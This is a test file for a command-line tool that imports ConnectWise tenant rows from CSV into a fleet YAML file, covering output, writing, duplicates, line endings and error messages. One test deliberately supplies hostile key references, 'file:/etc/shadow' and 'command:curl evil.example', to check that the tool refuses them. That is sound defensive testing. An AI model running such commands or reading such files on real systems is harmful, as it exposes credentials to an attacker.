import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { loadFleet } from "../../fleet/file/load";
import { cwroles } from "../helpers/cli";

const folder = mkdtempSync(path.join(tmpdir(), "connectwise-roles-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
mkdirSync(path.join(folder, "profiles"));
cpSync(path.resolve(__dirname, "../../profiles/wise-sync.yaml"), path.join(folder, "profiles/wise-sync.yaml"));

const FLEET = `# Reviewed by the security team.
name: acme
defaults:
  publicKey: env:CW_{TENANT}_PUBLIC
  privateKey:   file:secrets/{tenant}.key   # odd spacing stays
  clientId: env:CONNECTWISE_CLIENT_ID
tenants:
  contoso:
    site: api-au.myconnectwise.net
    companyId: contoso
    profiles: {wise-sync: {member: m, location: L, businessUnit: B}} # the pilot

# The groups come last.
groups:
  au: {}
  eu: {}
`;
const FILE = path.join(folder, "fleet.yaml");
const read = () => readFileSync(FILE, "utf8");
beforeEach(() => writeFileSync(FILE, FLEET));

function importing(csv: string, ...flags: string[]) {
  writeFileSync(path.join(folder, "tenants.csv"), csv);
  return cwroles(["fleet", "import", "tenants.csv", ...flags], folder);
}

const TABLE = `\uFEFFCustomer,Company ID,Site URL,Groups,Tags,Private Key
north,NorthCo,na.myconnectwise.net,au;eu,pilot|emea,env:CW_NORTH_KEY
"south",SouthCo,api-eu.myconnectwise.net,,,
again,CONTOSO,https://api-au.myconnectwise.net,,,
`;

describe("cwroles fleet import", () => {
  test("prints what to add, and says what is there", async () => {
    const { code, stdout, stderr } = await importing(TABLE);
    expect(code).toBe(0);
    expect(stdout).toBe(`tenants:
  north:
    site: na.myconnectwise.net
    companyId: NorthCo
    groups: [au, eu]
    tags: [pilot, emea]
    privateKey: env:CW_NORTH_KEY
  south:
    site: api-eu.myconnectwise.net
    companyId: SouthCo
`);
    expect(stderr).toBe("again: the file has it already, as the tenant contoso; left alone\n");
    expect(read()).toBe(FLEET);
  });

  test("--write adds them behind the others and leaves every other character as it is", async () => {
    const { code, stdout } = await importing(TABLE, "--write");
    expect(code).toBe(0);
    expect(stdout).toBe("2 tenants added to fleet.yaml\n");
    const [before = "", after = ""] = read().split(/ {2}north:[\s\S]*SouthCo\n/);
    expect(before + after).toBe(FLEET);
    expect(before).toMatch(/# the pilot\n$/);
    expect(loadFleet(FILE).tenants.map(({ name, groups }) => [name, groups])).toEqual([
      ["contoso", []],
      ["north", ["au", "eu"]],
      ["south", []],
    ]);
  });

  test("a second time adds nothing", async () => {
    await importing(TABLE, "--write");
    const once = read();
    const { code, stdout, stderr } = await importing(TABLE, "--write");
    expect([code, stdout]).toEqual([0, "0 tenants added to fleet.yaml\n"]);
    expect(stderr.match(/left alone/g)).toHaveLength(3);
    expect(read()).toBe(once);
  });

  test.each([
    ["with none yet", "tenants: {} # none yet\n"],
    ["with none, at the end of the file", "tenants: {}"],
    [
      "with Windows' line ends",
      "tenants:\r\n    old:\r\n        site: api-na.myconnectwise.net\r\n        companyId: old\r\n",
    ],
    ["without a last line end", "tenants:\n  old:\n    site: api-na.myconnectwise.net\n    companyId: old"],
  ])("--write into a file %s", async (_what, tenants) => {
    const before = FLEET.slice(0, FLEET.indexOf("tenants:")).replaceAll("\n", tenants.includes("\r") ? "\r\n" : "\n");
    writeFileSync(FILE, before + tenants);
    expect((await importing("name;companyId;site\nx;x;api-eu.myconnectwise.net\n", "--write")).code).toBe(0);
    expect(loadFleet(FILE).tenants.at(-1)).toMatchObject({ name: "x", site: "api-eu.myconnectwise.net" });
    expect(read().startsWith(before)).toBe(true);
    if (tenants.includes("\r")) expect(read()).not.toMatch(/[^\r]\n/);
  });

  test("--write adds no command and no file of a table that nobody agreed to", async () => {
    const table =
      "name;companyId;site;public key;private key\nx;x;api-eu.myconnectwise.net;file:/etc/shadow;command:curl evil.example\n";
    const before = read();
    const refused = await importing(table, "--write");
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain("  x: publicKey: file:/etc/shadow\n  x: privateKey: command:curl evil.example\n");
    expect(refused.stderr).toContain("Nothing was added. If these references are yours, add them with --yes.");
    expect(read()).toBe(before);
    expect((await importing(table, "--write", "--yes")).code).toBe(0);
    expect(read()).toContain("command:curl evil.example");
  });

  test("--json has both lists", async () => {
    expect(JSON.parse((await importing(TABLE, "--json")).stdout)).toEqual({
      added: [
        {
          name: "north",
          site: "na.myconnectwise.net",
          companyId: "NorthCo",
          groups: ["au", "eu"],
          tags: ["pilot", "emea"],
          privateKey: "env:CW_NORTH_KEY",
        },
        { name: "south", site: "api-eu.myconnectwise.net", companyId: "SouthCo" },
      ],
      there: [{ name: "again", tenant: "contoso" }],
    });
  });

  test("tells every problem with line and cell, repeats no secret and writes nothing", async () => {
    const { code, stderr } = await importing(
      [
        "name;site;companyId;groups;public key",
        "bad name;http://psa.example;x;ua;s3cretValue",
        "contoso;api-na.myconnectwise.net;other;;",
        '"two";api-na.myconnectwise.net;two;au;',
        "three;api-na.myconnectwise.net;TWO;au|au;",
      ].join("\n"),
      "--write",
    );
    expect(code).toBe(1);
    const problems = stderr.trim().split("\n").slice(1);
    expect(problems.map((line) => line.trim().split(" ")[0])).toEqual([
      "tenants.csv:2:1:",
      "tenants.csv:2:2:",
      "tenants.csv:2:4:",
      "tenants.csv:2:5:",
      "tenants.csv:3:1:",
      "tenants.csv:5:3:",
      "tenants.csv:5:4:",
    ]);
    expect(stderr).toMatch(/no group "ua"; did you mean au or eu\?/);
    expect(stderr).toMatch(/"contoso" is in fleet\.yaml already, with another site or company/);
    expect(stderr).toMatch(/the tenant "two" is this company on this site already/);
    expect(stderr).not.toContain("s3cretValue");
    expect(read()).toBe(FLEET);
  });

  test.each([
    ["a tenant that gets no site", "name,companyId\nx,x\n", /tenants\.csv:2: x\.site: missing for the tenant "x"/],
    ["a row twice", "name,companyId,site\nx,x,a.example\nx,y,a.example\n", /tenants\.csv:3:1: x: is in line 2, too/],
    ["a blank company", "name,companyId,site\nx,,a.example\n", /tenants\.csv:2:2: companyId: blank/],
    [
      "a column that is none",
      "name,companyId,sit\nx,y,z\n",
      /tenants\.csv:1:3: sit: unknown column; did you mean site\?/,
    ],
    [
      "no column of companies",
      "name,site\nx,z\n",
      /tenants\.csv:1: companyId: no such column; it may be called companyid/,
    ],
    ["a quote that never ends", 'name,companyId,site\n"x,y,s3cretValue\n', /tenants\.csv:\d+: the table can't be read/],
    ["an empty table", "", /the table is empty/],
  ])("refuses %s", async (_what, csv, message) => {
    const { code, stderr } = await importing(csv, "--write");
    expect(code).toBe(1);
    expect(stderr).toMatch(message);
    expect(stderr).not.toMatch(/s3cretValue|\n\s+at /);
    expect(read()).toBe(FLEET);
  });
});
